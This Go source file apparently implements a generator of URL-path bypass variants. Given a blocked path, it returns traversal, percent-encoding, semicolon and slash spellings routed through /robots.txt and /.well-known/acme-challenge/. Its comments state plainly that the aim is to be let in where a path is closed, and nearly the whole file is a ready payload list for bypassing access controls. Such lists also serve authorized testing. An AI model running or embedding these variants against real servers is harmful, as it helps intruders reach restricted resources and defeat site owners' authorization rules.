// Package spelt is how else an address may be written, to be let in where the one that everybody writes is closed: by way of what a lock and a notice leave open, and with what
// servers take out or understand otherwise (RFC 3986 §5.2.4, §6.2.2). Live and by configuration alone the same table is asked.
package spelt

import (
	"fmt"
	"strings"
)

// ways are those ways, of which %s is the path without its slash and %x that with its first sign in figures.
var ways = []string{
	"/robots.txt/../%s", "/robots.txt?/../%s", "/robots.txt%%3f/../%s", "/robots.txt;/../%s", "/robots.txt/%s",
	"/.well-known/acme-challenge/../../%s", "/.well-known/acme-challenge/%%2e%%2e/%%2e%%2e/%s", "/.well-known/acme-challenge/.%%2e/.%%2e/%s", "/.well-known/acme-challenge/..%%2f..%%2f%s",
	"/.well-known/acme-challenge/..%%5c..%%5c%s", "/.well-known/acme-challenge/..;/..;/%s", "/.well-known/acme-challenge//../../%s", "/.well-known/acme-challenge/weltaxis/../../../%s", "/.well-known/acme-challenge/%s",
	"//%s", "/./%s", "/x/../%s", "/%%2f%s", "/;/%s", "/%s;x", "/%s%%20", "/%s?x", "/%s/", "/%x",
}

// Of are the spellings of a place, given by its path and query as they are sent.
func Of(target string) []string {
	place := strings.TrimPrefix(target, "/")
	all := make([]string, len(ways))
	for i, way := range ways {
		switch {
		case !strings.Contains(way, "%x"):
			all[i] = fmt.Sprintf(way, place)
		case place == "":
			all[i] = "/"
		default:
			all[i] = fmt.Sprintf("/%%%02x%s", place[0], place[1:])
		}
	}
	return all
}
